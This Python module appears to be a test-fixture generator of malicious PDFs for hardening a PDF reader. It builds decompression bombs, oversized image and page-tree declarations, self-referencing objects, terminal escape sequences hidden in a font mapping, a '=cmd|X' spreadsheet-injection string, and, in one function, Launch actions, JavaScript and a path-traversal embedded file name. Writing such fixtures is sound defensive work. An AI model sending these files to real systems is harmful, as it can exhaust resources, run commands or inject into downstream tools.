"""PDFs made to do harm: small files that ask for gigabytes, for ever, or for what no report asks.

Each is a function that gives the bytes; `BOMBS` names those that ask for more than there is.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable

Made = Callable[[], bytes]

A4 = b"[0 0 595 842]"
FONT = b"<< /Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
MEBIBYTE = 1 << 20
SIDE = 50_000


def assemble(*bodies: bytes, trailer: bytes = b"") -> bytes:
    """A file of the objects 1, 2, …; the first is the catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(bodies, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, trailer, start)
    return bytes(out)


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object of these bytes as they are."""
    return b"<< /Length %d %s >> stream\n%s\nendstream" % (len(content), entries, content)


def page_of(
    content: bytes, resources: bytes = FONT, *more: bytes, catalog: bytes = b"", page: bytes = b"", box: bytes = A4
) -> bytes:
    """One page (object 3) with a content stream (object 4, given as an object); `more` follow from object 5."""
    return assemble(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R %s >>" % (box, resources, page),
        content,
        *more,
    )


def swollen(piece: bytes, times: int, *, end: bytes = b"") -> bytes:
    """The zlib stream of `piece` written `times` times, and `end`; never holds what it inflates to."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    # After a full flush a block refers to nothing before it: it can be repeated.
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(times):
        check = zlib.adler32(piece, check)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = packer.compress(end) + packer.flush()
    return b"\x78\xda" + block * times + last + struct.pack(">I", zlib.adler32(end, check))


def text_line(words: bytes, y: int = 700) -> bytes:
    """Operators that show one line."""
    return b"BT /F 10 Tf 60 %d Td (%s) Tj ET\n" % (y, words)


def deflate_bomb() -> bytes:
    """A gigabyte of white space as the page's content, in a megabyte."""
    return page_of(stream(swollen(b" " * MEBIBYTE, 1024), b"/Filter /FlateDecode"))


def double_deflate_bomb() -> bytes:
    """Eight gigabytes, deflated twice."""
    twice = zlib.compress(swollen(b" " * MEBIBYTE, 8 * 1024), 9)
    return page_of(stream(twice, b"/Filter [/FlateDecode /FlateDecode]"))


def filter_chain() -> bytes:
    """A thousand filters on one stream."""
    return page_of(stream(b"41>" * 1000, b"/Filter [%s]" % (b"/ASCIIHexDecode " * 1000)))


def _picture(entries: bytes, data: bytes, *, width: int = SIDE, height: int = SIDE) -> bytes:
    declared = b"/Type /XObject /Subtype /Image /Width %d /Height %d %s" % (width, height, entries)
    resources = b"<< /XObject << /I 5 0 R >> >>"
    return page_of(stream(b"q 595 0 0 842 0 0 cm /I Do Q"), resources, stream(data, declared))


def grey_picture() -> bytes:
    """50,000 by 50,000 grey pixels: 2.5 GB in 2.5 MB."""
    data = swollen(b"\x80" * MEBIBYTE, SIDE * SIDE // MEBIBYTE + 1)
    return _picture(b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode", data)


def colour_picture_without_data() -> bytes:
    """A picture that declares 7.5 GB and has none."""
    return _picture(b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", zlib.compress(b""))


def fax_picture() -> bytes:
    """50,000 by 50,000 in Group 4, of lines that repeat the one above."""
    entries = b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /CCITTFaxDecode"
    parms = b"/DecodeParms << /K -1 /Columns %d /Rows %d >>" % (SIDE, SIDE)
    return _picture(entries + parms, b"\xff" * (SIDE // 8))


def jbig2_picture() -> bytes:
    """50,000 by 50,000 in JBIG2: a page segment and one generic region of that size."""
    page = struct.pack(">IIIIBH", SIDE, SIDE, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", SIDE, SIDE, 0, 0, 0) + b"\x08" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + b"\0" * 64
    segments = struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page
    segments += struct.pack(">IBBBI", 1, 38, 0, 1, len(region)) + region
    return _picture(b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode", segments)


def jpeg2000_picture() -> bytes:
    """A JPEG 2000 code stream that declares 50,000 by 50,000 in one tile, and ends."""
    size = struct.pack(">HIIIIIIIIH", 0, SIDE, SIDE, 0, 0, SIDE, SIDE, 0, 0, 1) + b"\x07\x01\x01"
    codes = b"\xff\x52" + struct.pack(">HBBHBBBBBB", 12, 0, 0, 1, 0, 5, 4, 4, 0, 1)
    quants = b"\xff\x5c" + struct.pack(">HB", 19, 0x40) + b"\x40" * 16
    tile = b"\xff\x90" + struct.pack(">HHIBB", 10, 0, 0, 0, 1) + b"\xff\x93" + b"\0" * 64
    data = b"\xff\x4f\xff\x51" + struct.pack(">H", len(size) + 2) + size + codes + quants + tile + b"\xff\xd9"
    return _picture(b"/Filter /JPXDecode", data)


def jpeg_picture() -> bytes:
    """A JPEG whose frame says 65,500 by 65,500, and that ends after its header."""
    frame = struct.pack(">BHHB", 8, 65_500, 65_500, 1) + b"\x01\x11\x00"
    data = b"\xff\xd8\xff\xdb\x00\x43\x00" + b"\x10" * 64 + b"\xff\xc0" + struct.pack(">H", len(frame) + 2) + frame
    data += b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\0" * 64 + b"\xff\xd9"
    return _picture(
        b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /DCTDecode", data, width=65_500, height=65_500
    )


def inline_picture() -> bytes:
    """A picture in the content stream that declares 50,000 by 50,000."""
    return page_of(stream(b"q 595 0 0 842 0 0 cm BI /W %d /H %d /BPC 8 /CS /G ID \x80 EI Q" % (SIDE, SIDE)))


def many_pictures() -> bytes:
    """One picture of 4,000 by 4,000, drawn 20,000 times over the whole page."""
    data = swollen(b"\x80" * MEBIBYTE, 16)
    entries = b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /FlateDecode"
    declared = b"/Type /XObject /Subtype /Image /Width 4000 /Height 4000 %s" % entries
    content = swollen(b"q 595 0 0 842 0 0 cm /I Do Q\n" * 1000, 20)
    return page_of(stream(content, b"/Filter /FlateDecode"), b"<< /XObject << /I 5 0 R >> >>", stream(data, declared))


def million_paths() -> bytes:
    """A million lines on one page."""
    return page_of(stream(swollen(b"9 9 m 99 99 l S\n" * 1000, 1000), b"/Filter /FlateDecode"))


def one_long_path() -> bytes:
    """One path with three million corners."""
    content = b"0 0 m\n" + b"".join(b"%d %d l\n" % (k % 595, k % 842) for k in range(1000))
    return page_of(stream(swollen(content, 3000, end=b"S"), b"/Filter /FlateDecode"))


def million_words() -> bytes:
    """A million words on one page."""
    lines = b"".join(text_line(b"laporan kinerja", y=k) for k in range(842)) + b"1 0 0 1 .9 0 cm\n"
    return page_of(stream(swollen(lines, 600), b"/Filter /FlateDecode"))


def deep_states() -> bytes:
    """Three million graphics states, none of which is left again."""
    return page_of(stream(swollen(b"q " * 1000, 3000), b"/Filter /FlateDecode"))


def deep_arrays() -> bytes:
    """A hundred thousand arrays in one another."""
    return page_of(stream(b""), FONT, page=b"/Deep " + b"[" * 100_000 + b"]" * 100_000)


def tiny_tiles() -> bytes:
    """A pattern of tiles a hundredth of a point wide, over a page without text."""
    tile = b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .01 .01] /XStep .01 /YStep .01"
    resources = b"<< /Pattern << /P 5 0 R >> /XObject << /I 6 0 R >> >>"
    picture = b"/Type /XObject /Subtype /Image /Width 100 /Height 100 /ColorSpace /DeviceGray /BitsPerComponent 8"
    content = b"q 595 0 0 842 0 0 cm /I Do Q /Pattern cs /P scn 0 0 595 842 re f"
    return page_of(
        stream(content), resources, stream(b"0 0 .005 .005 re f", tile + b"/Resources << >>"),
        stream(b"\x80\x10" * 5000, picture),
    )  # fmt: skip


def hundred_thousand_pages() -> bytes:
    """One page, named a hundred thousand times."""
    return assemble(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 100000 /Kids [%s] >>" % (b"3 0 R " * 100_000),
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R >>" % (A4, FONT),
        stream(text_line(b"Halaman")),
    )


def pages_that_are_not_there() -> bytes:
    """A count of two thousand million pages, and one page."""
    return assemble(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 2000000000 /Kids [3 0 R] >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents 4 0 R >>" % (A4, FONT),
        stream(text_line(b"Halaman")),
    )


def pages_by_powers_of_ten() -> bytes:
    """Nine nodes of a page tree, each ten times in the one above: a thousand million pages."""
    levels = 9
    nodes = [
        b"<< /Type /Pages /Count %d /Kids [%s] >>" % (10 ** (levels - k), b"%d 0 R " % (k + 3) * 10)
        for k in range(levels)
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Resources %s /Contents %d 0 R >>" % (A4, FONT, levels + 3)
    return assemble(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, page, stream(text_line(b"Halaman")))


def deep_page_tree() -> bytes:
    """Twenty thousand nodes above one page."""
    depth = 20_000
    nodes = [b"<< /Type /Pages /Count 1 /Kids [%d 0 R] /Parent %d 0 R >>" % (k + 3, k + 1) for k in range(depth)]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox %s /Resources %s /Contents %d 0 R >>" % (
        depth + 1, A4, FONT, depth + 3,
    )  # fmt: skip
    return assemble(b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, page, stream(text_line(b"Halaman")))


def pages_in_a_circle() -> bytes:
    """A page tree that holds itself, and a page whose parents go round."""
    return assemble(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Count 7 /Kids [2 0 R 3 0 R 4 0 R] /Parent 3 0 R >>",
        b"<< /Type /Pages /Count 3 /Kids [2 0 R 4 0 R] /Parent 2 0 R >>",
        b"<< /Type /Page /Parent 3 0 R /Contents 5 0 R >>",
        stream(text_line(b"Halaman")),
    )


def _form(content: bytes, names: bytes) -> bytes:
    return stream(
        content, b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << %s >> >>" % names
    )


def form_in_itself() -> bytes:
    """Two forms that draw each other."""
    resources = b"<< /XObject << /X 5 0 R >> >>"
    return page_of(stream(b"/X Do"), resources, _form(b"/X Do", b"/X 6 0 R"), _form(b"/X Do", b"/X 5 0 R"))


def forms_by_powers_of_ten() -> bytes:
    """Ten forms, each drawn ten times by the one before: ten thousand million lines."""
    levels = 10
    forms = [_form(b"/X Do " * 10, b"/X %d 0 R" % (6 + k)) for k in range(levels)]
    return page_of(stream(b"/X Do"), b"<< /XObject << /X 5 0 R >> >>", *forms, _form(b"0 0 m 9 9 l S", b""))


def glyph_in_itself() -> bytes:
    """A Type 3 glyph that shows itself."""
    resources = b"<< /Font << /F 5 0 R >> >>"
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 "
        b"/Widths [9] /Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> /Resources %s >>" % resources
    )
    return page_of(stream(text_line(b"AAAA")), resources, font, stream(b"9 0 d0 " + text_line(b"AAAA") * 10))


def xref_in_a_circle() -> bytes:
    """A trailer whose earlier table is itself."""
    data = page_of(stream(text_line(b"Halaman")))
    return data.replace(b"trailer <<", b"trailer << /Prev %d" % data.rindex(b"xref\n0"))


def xref_of_thousands_of_millions() -> bytes:
    """A table that says it has two thousand million entries."""
    data = page_of(stream(text_line(b"Halaman")))
    return data.replace(b"xref\n0 5", b"xref\n0 2000000000").replace(b"/Size 5", b"/Size 2000000000")


def no_xref() -> bytes:
    """A file cut before its table, its objects whole."""
    data = page_of(stream(text_line(b"Halaman")))
    return data[: data.rindex(b"xref\n0")]


def length_of_itself() -> bytes:
    """A stream whose length is an object that is the stream."""
    return page_of(b"<< /Length 4 0 R >> stream\n%s\nendstream" % text_line(b"Halaman"))


def huge_box() -> bytes:
    """A page of a thousand million points a side."""
    return page_of(stream(text_line(b"Halaman")), box=b"[0 0 1e9 1000000000]")


def senseless_box() -> bytes:
    """A page whose corners are no numbers, turned by seven degrees."""
    return page_of(stream(text_line(b"Halaman")), box=b"[nan (x) null -1e999]", page=b"/Rotate 7")


def mapping_of_everything() -> bytes:
    """A font whose letters are said to mean 500,000 letters, ranges over ranges."""
    ranges = b"".join(b"<%04X> <%04X> <%s>\n" % (k, k + 99, b"0041" * 100) for k in range(0, 65_000, 100))
    cmap = b"begincmap 1 begincodespacerange <0000> <ffff> endcodespacerange %d beginbfrange\n%s endbfrange endcmap" % (
        650, ranges,
    )  # fmt: skip
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 6 0 R /DescendantFonts "
        b"[<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (A) /Ordering (A) "
        b"/Supplement 0 >> >>] >>"
    )
    line = b"BT /F 10 Tf 60 700 Td <%s> Tj ET" % (b"00410042" * 5000)
    return page_of(stream(line), b"<< /Font << /F 5 0 R >> >>", font, stream(cmap))


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\x00"
"""Sets a terminal's title, clears it, turns its colour and the order of letters, ends a C string."""


def terminal_escapes() -> bytes:
    """A page of 40 lines in a table of two columns, whose font says that every X means `ESCAPES`."""
    codes = "".join(f"{ord(letter):04X}" for letter in ESCAPES).encode()
    cmap = (
        b"/CIDInit /ProcSet findresource begin 12 dict begin begincmap 1 begincodespacerange <00> <ff> "
        b"endcodespacerange 1 beginbfchar\n<58> <%s>\nendbfchar endcmap end end" % codes
    )
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding /ToUnicode 6 0 R >>"
    rows = b"".join(
        b"60 %d m 500 %d l S " % (y + 14, y + 14) + text_line(b"Sasaran X kinerja", y) + text_line(b"=cmd|X", y)
        for y in range(200, 760, 14)
    )
    rules = b"".join(b"%d 200 m %d 760 l S " % (x, x) for x in (58, 300, 500))
    return page_of(stream(rules + rows), b"<< /Font << /F 5 0 R >> >>", font, stream(cmap))


def things_that_act() -> bytes:
    """Scripts, programs to launch, a form to send, a file inside: all to be left alone."""
    launch = (
        b"<< /S /Launch /F (/bin/touch) /Unix << /F (touch owned) >> /Next << /S /URI /URI (http://localhost:9/) >> >>"
    )
    script = b"<< /S /JavaScript /JS (app.launchURL\\('http://localhost:9/'\\);this.exportDataObject\\('x'\\);) >>"
    names = (
        b"/Names << /JavaScript << /Names [(a) %s] >> /EmbeddedFiles << /Names [(../../owned.pdf) 5 0 R] >> >>" % script
    )
    inside = b"<< /Type /Filespec /F (../../owned.pdf) /EF << /F 6 0 R >> >>"
    return page_of(
        stream(text_line(b"Laporan kinerja")), FONT, inside, stream(b"%PDF-1.7 inside", b"/Type /EmbeddedFile"),
        catalog=b"/OpenAction %s /AA << /WC %s >> %s" % (launch, script, names),
        page=b"/AA << /O %s /C %s >>" % (script, launch),
    )  # fmt: skip


BOMBS: dict[str, Made] = {
    made.__name__: made
    for made in (
        deflate_bomb,
        double_deflate_bomb,
        filter_chain,
        grey_picture,
        colour_picture_without_data,
        fax_picture,
        jbig2_picture,
        jpeg2000_picture,
        jpeg_picture,
        inline_picture,
        many_pictures,
        million_paths,
        one_long_path,
        million_words,
        deep_states,
        deep_arrays,
        tiny_tiles,
        hundred_thousand_pages,
        pages_that_are_not_there,
        pages_by_powers_of_ten,
        deep_page_tree,
        pages_in_a_circle,
        form_in_itself,
        forms_by_powers_of_ten,
        glyph_in_itself,
        xref_in_a_circle,
        xref_of_thousands_of_millions,
        no_xref,
        length_of_itself,
        huge_box,
        senseless_box,
        mapping_of_everything,
    )
}
"""Files that ask for more than there is, or for ever."""
